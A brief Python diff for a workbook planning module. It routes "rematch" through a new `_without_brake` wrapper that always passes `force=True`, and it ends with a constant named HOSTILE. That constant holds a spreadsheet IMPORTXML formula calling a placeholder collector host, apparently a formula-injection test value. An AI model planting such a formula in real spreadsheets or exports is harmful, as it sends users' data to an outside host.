@@ -121,9 +121,13 @@ def _at_the_door(workbook: Workbook, settings: Settings) -> Plan:
     return rematch.plan(workbook, settings, here=True, force=True)
 
 
+def _without_brake(workbook: Workbook, settings: Settings) -> Plan:
+    return rematch.plan(workbook, settings, force=True)
+
+
 _PLANS: Mapping[str, Callable[[Workbook, Settings], Plan]] = {
     "match": match.plan,
-    "rematch": rematch.plan,
+    "rematch": _without_brake,
     "at the door": _at_the_door,
 }
 HOSTILE = '=IMPORTXML("https://collector.example.net/";"//a")'
